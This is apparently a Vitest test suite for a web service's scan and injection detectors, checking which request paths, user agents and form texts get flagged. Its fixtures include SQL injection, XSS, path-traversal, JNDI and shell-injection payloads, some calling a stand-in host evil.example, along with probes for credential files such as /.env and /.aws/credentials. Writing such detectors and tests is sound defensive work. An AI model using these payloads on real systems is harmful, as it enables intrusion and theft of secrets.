import { describe, expect, it } from 'vitest'
import { findInjection } from './injection-signatures.ts'
import { findScan } from './scan-signatures.ts'

const CHROME = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/156.0.0.0 Safari/537.36'

describe('a scan is known', () => {
  it.each([
    ['/.env', 'env-file', 'path'],
    ['/app/.env.production', 'env-file', 'path'],
    ['/.git/config', 'git', 'path'],
    ['/%2egit/HEAD', 'git', 'path'],
    ['/.svn/entries', 'svn', 'path'],
    ['/.aws/credentials', 'cloud-credentials', 'path'],
    ['/wp-login.php', 'wordpress', 'path'],
    ['/blog/wp-admin/setup-config.php?step=1', 'wordpress', 'path'],
    ['/WP-ADMIN/', 'wordpress', 'path'],
    ['/phpMyAdmin/index.php', 'phpmyadmin', 'path'],
    ['/phpmyadmin-5.1.2/', 'phpmyadmin', 'path'],
    ['/actuator/env', 'actuator', 'path'],
    ['/cgi-bin/luci', 'cgi-bin', 'path'],
    ['/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 'phpunit', 'path'],
    ['/server-status', 'server-status', 'path'],
    ['/backup.sql', 'backup-file', 'path'],
    ['/index.php?s=/index', 'php-file', 'path'],
    ['/config.json', 'config-file', 'path'],
    ['/api/widget/v1/.env/board', 'env-file', 'path'],
    ['/web.config', 'iis-file', 'path'],
    ['/solr/admin/info/system', 'admin-console', 'path'],
    ['/cmd.php', 'web-shell', 'path'],
    ['/../../etc/passwd', 'etc-passwd', 'traversal'],
    ['/static/..%2f..%2f..%2fsecret', 'path-traversal', 'traversal'],
    ['/%2e%2e/%2e%2e/x', 'path-traversal', 'traversal'],
    ['/%252e%252e%252fx', 'path-traversal', 'traversal'],
    ['/..;/manager', 'path-traversal', 'traversal'],
    ['/%c0%ae%c0%ae/x', 'path-traversal', 'traversal'],
    ['/download?file=../../secret', 'path-traversal', 'traversal'],
    ['/x?f=/etc/passwd', 'etc-passwd', 'traversal'],
    ['/x?q=<script>alert(1)</script>', 'xss', 'injection'],
    ['/x?q=%3Cscript%3E', 'xss', 'injection'],
    ['/x?q=%253Cimg%2520src=x%2520onerror=alert(1)%253E', 'xss', 'injection'],
    ["/x?id=1'%20or%201=1--", 'sql-tautology', 'injection'],
    ['/x?id=1+or+1=1', 'sql-tautology', 'injection'],
    ["/x?id=1'+OR+'a'='a", 'sql-tautology', 'injection'],
    ['/x?id=1+union+select+null,null', 'sql-union', 'injection'],
    ['/x?id=1/**/union/**/all/**/select/**/1', 'sql-union', 'injection'],
    ["/x?id=1';drop table votes", 'sql-stacked', 'injection'],
    ['/x?id=1 and pg_sleep(5)', 'sql-delay', 'injection'],
    ['/x?q=${jndi:ldap://evil.example/a}', 'jndi', 'injection'],
    ['/x?q=%24%7B%24%7Blower:j%7Dndi:ldap://evil.example%7D', 'jndi', 'injection'],
    ['/x?host=;cat /etc/hostname', 'shell-command', 'injection'],
    ['/x?host=1|whoami', 'shell-command', 'injection'],
    ['/x?name={{7*7}}', 'template', 'injection'],
  ])('%s', (url, signature, category) => expect(findScan(url, CHROME)).toEqual({ signature, category }))

  it.each([
    ['sqlmap/1.8.2#stable (https://sqlmap.org)', 'sqlmap'],
    ['Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)', 'nikto'],
    ['Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', 'nuclei'],
    ['masscan/1.3 (https://github.com/robertdavidgraham/masscan)', 'masscan'],
    ['Mozilla/5.0 zgrab/0.x', 'zgrab'],
    ['DirBuster-1.0-RC1 (http://www.owasp.org)', 'dirbuster'],
    ['gobuster/3.6', 'gobuster'],
    ['WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)', 'wpscan'],
    ['Nessus SOAP', 'nessus'],
    ['Mozilla/5.0 (compatible; acunetix-product)', 'acunetix'],
    ['Fuzz Faster U Fool v2.1.0', 'ffuf'],
    ['Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', 'nmap'],
    ['OWASP ZAP/2.14', 'zap'],
  ])('by its name: %s', (agent, signature) =>
    expect(findScan('/api/widget/v1/pk_demo/board', agent)).toEqual({ signature, category: 'tool' }))

  it.each([
    ['${jndi:ldap://x.evil.example/a}', 'jndi'],
    ['() { :;}; /bin/bash -c "curl http://evil.example"', 'shell-command'],
  ])('by what it puts into its name: %s', (agent, signature) =>
    expect(findScan('/', agent)).toEqual({ signature, category: 'injection' }))
})

describe('no scan', () => {
  it.each([
    ['/'], ['/en/'], ['/environment'], ['/api/environments'], ['/healthz'], ['/.well-known/security.txt'], ['/openapi.json'], ['/docs/static/index.html'],
    ['/widget.js'], ['/widget/0.1.0/board-3f2a9c.js'], ['/favicon.ico'], ['/robots.txt'], ['/apple-touch-icon.png'], ['/github'], ['/gitlab-integration'],
    ['/api/widget/v1/pk_9aTmQe2ysUfb-_Zx/items/12/vote'], ['/api/widget/v1/pk_demo/board?v=3'],
    ['/api/moderation/v1/votes?project=pk_demo&item=3&state=held&ip=203.0.113.7&network=203.0.113.0%2F24&limit=50'],
    ['/api/security/v1/events?since=1700000000000&sort=oldest&cursor=eyJhIjpbMTcwMDAwMDAwMDAwMCwiMDE4Yy0uLiJdfQ%3D%3D'],
    ['/api/moderation/v1/items?title=Let+us+select+all+the+unions'],
    ['/search?q=rock+%26+roll+or+jazz'], ['/search?q=the+trade+union+select+committee'], ['/search?q=O%27Brien+and+sons'],
    ['/x?next=https%3A%2F%2Fshop.example%2Fa%2Fb..c'], ['/files/report..final.pdf'], ['/a...b/c'],
    [`/x?token=${Buffer.from('a long opaque token, as sign-ins send them back and forth'.repeat(10)).toString('base64')}`],
    ['/%E4%BD%A0%E5%A5%BD/%D0%BF%D1%80%D0%B8%D0%B2%D0%B5%D1%82'], ['/100%25'],
    ['/x?a=1&id&b=2'], ['/x?a=1&id'],
  ])('%s', (url) => expect(findScan(url, CHROME)).toBeUndefined())

  it.each([
    [CHROME], ['curl/8.5.0'], ['kube-probe/1.29'], ['UptimeRobot/2.0'], ['Prometheus/2.51.0'], [''],
    ['Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15'],
    ['Mozilla/5.0 (Linux; Android 14; Zapper Pro) AppleWebKit/537.36'], ['Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)'],
  ])('an agent called %s', (agent) => expect(findScan('/api/widget/v1/pk_demo/board', agent)).toBeUndefined())
})

describe('a payload', () => {
  it.each([
    ["' OR 1=1 --", 'sql-tautology'], ["admin'--", 'sql-tautology'], ["x'); DROP TABLE votes; --", 'sql-stacked'],
    ['<script>alert(document.cookie)</script>', 'xss'], ['"><svg/onload=alert(1)>', 'xss'], ['[click](javascript:alert(1))', 'xss'],
    ['1 UNION ALL SELECT NULL,NULL,version()', 'sql-union'], ['0 union select password from users', 'sql-union'],
    ['${jndi:ldap://evil.example}', 'jndi'], ['x; cat /etc/passwd', 'shell-command'], ['x & cat /etc/passwd', 'shell-command'], ['x\ncat /etc/passwd', 'shell-command'], ['/bin/sh -c id', 'shell-command'],
    ['1 or 1=1', 'sql-tautology'], ['$(curl evil.example)', 'shell-command'],
    ['{{7*7}}', 'template'], ["{{''.__class__.__mro__}}", 'template'], ["1'; waitfor delay '0:0:5'--", 'sql-delay'],
  ])('%s', (text, signature) => expect(findInjection(text)).toBe(signature))

  it.each([
    ['Please let me select more than one option'], ['Dark mode; cat pictures; dogs too'], ["I can't vote and it's annoying or broken"],
    ['Drop the table view, insert into the menu a link'], ['The union select committee'], ['Price < 10 and > 5; or 3 = three?'],
    ['Use `npm install` & restart'], ['Rock & roll | jazz'], ['50% off; ping me when done'], ['Could we have an <hr> between items?'],
    ['Q: is 2*2=4? (yes)'], ["Don't -- really don't -- do that"], ['${name} shows up in the title'], ['{{ name }} is not replaced'],
    ['See https://shop.example/a?b=c&d=e#f'], ['It said “sleep (mode)” and went on'], ['eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl'],
    ['A or B and C'], ['username = “Ann” and password = secret'],
  ])('is not: %s', (text) => expect(findInjection(text)).toBeUndefined())
})

it.each([
  '<img '.repeat(1200), "' or ".repeat(1200), 'union '.repeat(1000), ';'.repeat(6000), '${'.repeat(3000), '/*'.repeat(3000), '('.repeat(6000),
  `<svg ${' on'.repeat(2000)}`, `; cat ${'-a '.repeat(2000)}`, `' or ${'a'.repeat(6000)}`, `union${' '.repeat(6000)}`, '%25'.repeat(2000), '..x'.repeat(2000),
  "' or 'a'='".repeat(600), ';curl -s '.repeat(600), '1;update x '.repeat(500), 'union select a '.repeat(400),
])('costs little whatever the text: thousands of characters of what its patterns begin with (%#)', (text) => {
  const began = process.cpuUsage()
  findInjection(text)
  findScan(`/${text}`, text)
  const { user } = process.cpuUsage(began)
  // Of the processor, however busy the machine is. The slowest takes 1 ms on the machine this was written on; one that explodes takes minutes.
  expect(user / 1000).toBeLessThan(1000)
})
